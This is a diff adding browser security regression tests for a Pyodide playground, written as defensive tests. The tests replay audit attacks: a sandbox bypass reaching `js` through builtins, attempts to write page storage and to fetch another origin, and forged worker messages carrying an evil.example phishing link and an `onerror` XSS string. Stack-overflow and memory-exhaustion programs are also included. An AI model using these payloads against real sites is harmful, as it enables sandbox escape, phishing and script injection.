@@ -1,0 +1,269 @@
+"""A stranger's link can't hurt the reader: the attacks of the 2026-11-25 audit, replayed.
+
+A program reaches `js` past the runner's importer in one line (the importer is a courtesy,
+docs/security.md). From there it tried to write the page's storage (Cache Storage, where the
+memory snapshot every later visit restores is kept; IndexedDB; a blob: worker of the page's
+origin), to forge the worker's messages (a `result` whose DOT made a real link that navigated
+the top window), to keep a reader's core busy past the run limit, to hold gigabytes of memory,
+and to kill Python for good with a stack overflow. Each is a test here: the program runs in an
+opaque origin, the page's storage is byte for byte what it was, the next visit restores a
+snapshot only the page wrote, no forged message puts markup or a link on the page, and Python
+comes back by itself."""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlencode, urlsplit
+
+import pytest
+
+from playwright.sync_api import ConsoleMessage, Page, expect
+
+from tests.browser.test_early_python import engine_worker
+from tests.browser.test_playground import BOOT, playground, wait_for_python
+from tests.browser.test_snapshot import RESTORED, wait_for_stored_snapshot
+
+__all__ = ["playground"]  # the fixture, used by name
+
+# The audit's bypass of the runner's importer, then the ways it tried to leave the worker.
+REACH_JS = """\
+import random
+sys = random._os.sys
+imp = sys.modules['builtins'].__import__
+js = imp('js')
+ffi = imp('pyodide.ffi', fromlist=['to_js'])
+to_js, create_proxy = ffi.to_js, ffi.create_proxy
+print('reached js:', hasattr(js, 'postMessage'))
+"""
+WRITE_STORAGE = (
+    REACH_JS
+    + """\
+code = (
+    "try { caches.open('engine-snapshot').then(c => c.put(location.href, new Response('x'))) }"
+    " catch {} fetch('http://127.0.0.1:OTHER/from-a-nested-worker').catch(() => {})"
+)
+js.fetch('http://127.0.0.1:OTHER/from-the-worker').catch(create_proxy(lambda error: None))
+for kind in ('blob', 'data'):
+    try:
+        if kind == 'blob':
+            blob = js.Blob.new(to_js([code]), to_js({'type': 'text/javascript'}))
+            url = js.URL.createObjectURL(blob)
+        else:
+            url = 'data:text/javascript,' + js.encodeURIComponent(code)
+        nested = js.Worker.new(url)
+        nested.addEventListener('error', create_proxy(lambda event: event.preventDefault()))
+        print(kind, 'worker started')
+    except Exception as error:
+        print(kind, 'worker refused', str(error).split(':')[0])
+forged = js.Blob.new(to_js(['not a snapshot']))
+js.postMessage(to_js({'type': 'snapshot', 'snapshot': forged}, dict_converter=js.Object.fromEntries))
+print('tried everything')
+"""
+)
+
+_STORAGE = """
+async () => {
+  const caches_ = {};
+  for (const name of await caches.keys()) {
+    const cache = await caches.open(name);
+    for (const request of await cache.keys()) {
+      const bytes = await (await cache.match(request)).arrayBuffer();
+      const hash = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
+      caches_[`${name} ${request.url}`] = Array.from(hash, (b) => b.toString(16)).join("");
+    }
+  }
+  const databases = (await indexedDB.databases()).map((d) => d.name);
+  return { caches: caches_, databases, local: Object.keys(localStorage).sort() };
+}
+"""
+_REFUSED = "async () => { try { await STORE; return 'opened'; } catch (e) { return e.name; } }"
+ATTEMPTS_SETTLE_MS = 2000  # the program's asynchronous attempts (a worker's start) have run
+
+
+def output(page: Page):
+    return page.get_by_role("region", name="Output")
+
+
+def paste(page: Page, source: str) -> None:
+    page.get_by_label("Expression").fill(source)
+
+
+class OtherOrigin:
+    """A server on another port of this machine, which records what reaches it."""
+
+    def __init__(self) -> None:
+        paths = self.paths = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
+                paths.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def other_origin() -> Iterator[OtherOrigin]:
+    other = OtherOrigin()
+    yield other
+    other.server.shutdown()
+    other.server.server_close()
+
+
+def test_a_program_that_reaches_js_cannot_touch_the_pages_storage_or_the_next_visit(
+    page: Page, other_origin: OtherOrigin
+) -> None:
+    """Not the `playground` fixture, which fails a test on any page error: the attack's nested
+    workers fail by design (worker-src has no blob:), and their errors reach the page."""
+    page.set_default_timeout(15_000)
+    lines: list[str] = []
+    page.on("console", lambda message: lines.append(message.text))
+    page.goto("/")
+    wait_for_python(page)
+    wait_for_stored_snapshot(page)
+    before = page.evaluate(_STORAGE)
+    assert len(before["caches"]) == 1 and before["databases"] == []
+
+    paste(page, WRITE_STORAGE.replace("OTHER", str(other_origin.port)))
+    expect(output(page)).to_contain_text("tried everything", timeout=BOOT)
+    expect(output(page)).to_contain_text("reached js: True")
+    assert engine_worker(page).evaluate("() => self.origin") == "null"  # an opaque origin
+    worker = engine_worker(page)
+    for store in ("caches.open('engine-snapshot')", "indexedDB.databases()"):
+        assert worker.evaluate(_REFUSED.replace("STORE", store)) == "SecurityError"
+    page.wait_for_timeout(ATTEMPTS_SETTLE_MS)
+    assert page.evaluate(_STORAGE) == before  # byte for byte: the forged snapshot was dropped
+    assert other_origin.paths == []  # connect-src 'self' holds in the worker and its workers
+
+    page.reload()  # the next visit restores the snapshot the page stored, and it works
+    wait_for_python(page)
+    assert sum(RESTORED in line for line in lines) == 1
+    paste(page, "a = Value(2.0, label='a')\nb = a * a\nb.backward()\nprint('grad', a.grad)")
+    expect(output(page)).to_contain_text("grad 4.0", timeout=BOOT)
+    assert page.evaluate(_STORAGE) == before
+
+
+# A reply for every id the page may have used, with a DOT that once made a real link, a record
+# whose id tries the same, and messages outside the protocol.
+FORGE = (
+    REACH_JS
+    + """\
+import json
+link = 'digraph { a [label="Your session expired: click to log in again" URL="https://evil.example/" target=_top] }'
+node = {'id': 'n0', 'label': 'x', 'shown': 'x', 'name': 'x', 'constant': False, 'op': '',
+        'data': 1.0, 'data_text': '1.0000', 'grad': 0.0, 'grad_text': '0.0000',
+        'grad_widest': '0.0000', 'children': [], 'leaf': True}
+record = {'version': 3, 'mode': 'program', 'title': 'forged', 'output': 'n0', 'nodes': [node],
+          'edges': [], 'forward': [], 'backward': [], 'grads': {'n0': 0.0}, 'accumulates': [],
+          'nonfinite': [], 'layout': 'graphviz', 'layout_note': ''}
+bad = dict(record, nodes=[dict(node, id='n0 [URL="https://evil.example/" target=_top]')])
+convert = lambda value: to_js(value, dict_converter=js.Object.fromEntries)
+for i in range(1, 80):
+    for rec in (bad, record):
+        graph = {'title': 'forged', 'kind': 'draw_dot', 'record': rec, 'dot': link}
+        result = {'ok': True, 'language': 'python', 'output': '<a href="https://evil.example/">log in</a>',
+                  'error': None, 'graphs': [graph], 'chosen': 0, 'dot': link, 'trace': rec}
+        js.postMessage(convert({'type': 'result', 'id': i, 'result': json.dumps(result)}))
+    js.postMessage(convert({'type': 'result', 'id': i, 'result': 5}))
+    js.postMessage(convert({'type': 'acted', 'id': i, 'result': '{"ok": true, "dot": "' + 'x' * 10 + '"}'}))
+js.postMessage('<img src=x onerror=alert(1)>')
+print('forged')
+"""
+)
+
+
+def test_forged_messages_never_put_a_link_or_markup_on_the_page(playground: Page) -> None:
+    page = playground
+    page.goto("/")
+    wait_for_python(page)
+    navigations: list[str] = []
+    page.on("framenavigated", lambda frame: navigations.append(frame.url))
+    paste(page, FORGE)
+    # The forged replies may win the race with the real one: either way, no link and no markup.
+    page.wait_for_timeout(ATTEMPTS_SETTLE_MS)
+    graph = page.locator("#graph")
+    expect(graph.locator("svg")).to_be_visible()
+    for selector in ("a", "[href]", "[target]"):
+        expect(graph.locator(selector)).to_have_count(0)
+        expect(output(page).locator(selector)).to_have_count(0)
+    assert "evil.example" not in graph.inner_html()
+    page.locator("#graph").click()  # a link in the graph would navigate the top window
+    page.wait_for_timeout(500)
+    # Only the permalink's own same-document updates: never another site.
+    assert all(urlsplit(url).hostname == "127.0.0.1" for url in [*navigations, page.url])
+    paste(page, "a = Value(3.0, label='a')\nb = a * a\nb.backward()\nprint('again', a.grad)")
+    expect(output(page)).to_contain_text("again 6.0", timeout=BOOT)  # the page still works
+
+
+def test_a_link_cannot_raise_the_run_limit(playground: Page) -> None:
+    """`?limit=60&src=while True: pass` burned 61.5 s of a stranger's core; the server's
+    limit (5 s) holds. A link may still lower it (tests/browser/test_python.py uses 1-2 s)."""
+    page = playground
+    page.goto("/?" + urlencode({"limit": "60", "src": "while True:\n    pass"}))
+    expect(output(page)).to_contain_text("Stopped after 5 s", timeout=BOOT + 30_000)
+
+
+# Each attribute read calls __getattr__ again, through C: the wasm stack overflows before
+# Python's recursion limit, and the interpreter is dead (the audit: Python stayed "failed").
+OVERFLOW = """\
+class A:
+    def __getattr__(self, name):
+        return self.missing
+A().x
+"""
+CAUSE = "overflowed Python's stack"
+
+
+def test_a_stack_overflow_restarts_python_by_itself_five_times_in_a_row(page: Page) -> None:
+    # Not `playground`: Pyodide logs its fatal error to the console, by design.
+    page.set_default_timeout(15_000)
+    page.goto("/")
+    wait_for_python(page)
+    for i in range(5):
+        paste(page, OVERFLOW + f"# {i}\n")
+        expect(output(page)).to_contain_text(CAUSE, timeout=BOOT)
+        paste(page, f"print('alive {i}')")
+        expect(output(page)).to_contain_text(f"alive {i}", timeout=BOOT)
+    expect(page.locator("#boot-status")).to_have_attribute("data-state", "ready")
+
+
+def test_a_link_whose_program_crashes_python_leaves_the_page_usable(page: Page) -> None:
+    # Not `playground`: Pyodide logs its fatal error to the console, by design.
+    page.set_default_timeout(15_000)
+    page.goto("/?" + urlencode({"src": OVERFLOW}))
+    expect(output(page)).to_contain_text(CAUSE, timeout=BOOT)
+    paste(page, "y = 2 * x\nz = y + 1")  # the expression language
+    expect(page.locator("#step-count")).to_have_text("0 / 3", timeout=BOOT)
+    paste(page, "print('python is back')")
+    expect(output(page)).to_contain_text("python is back", timeout=BOOT)
+
+
+def test_a_worker_holding_too_much_memory_is_replaced(playground: Page) -> None:
+    """A program's 600 MB stay in wasm memory after it ends (it never shrinks): the worker is
+    replaced once the run is answered, and the next run works."""
+    page = playground
+    page.goto("/")
+    wait_for_python(page)
+    paste(page, "b = bytearray(600 * 2**20)\nprint('held', len(b) // 2**20, 'MB')")
+    expect(output(page)).to_contain_text("held 600 MB", timeout=BOOT)
+    expect(page.locator("#boot-status")).to_contain_text("restarted to give it back")
+    wait_for_python(page)
+    paste(page, "print('fresh')")
+    expect(output(page)).to_contain_text("fresh", timeout=BOOT)
+
+
+def console_errors(page: Page) -> list[str]:
+    errors: list[str] = []
+
+    def on_console(message: ConsoleMessage) -> None:
+        if message.type == "error":
+            errors.append(message.text)
+
+    page.on("console", on_console)
+    return errors
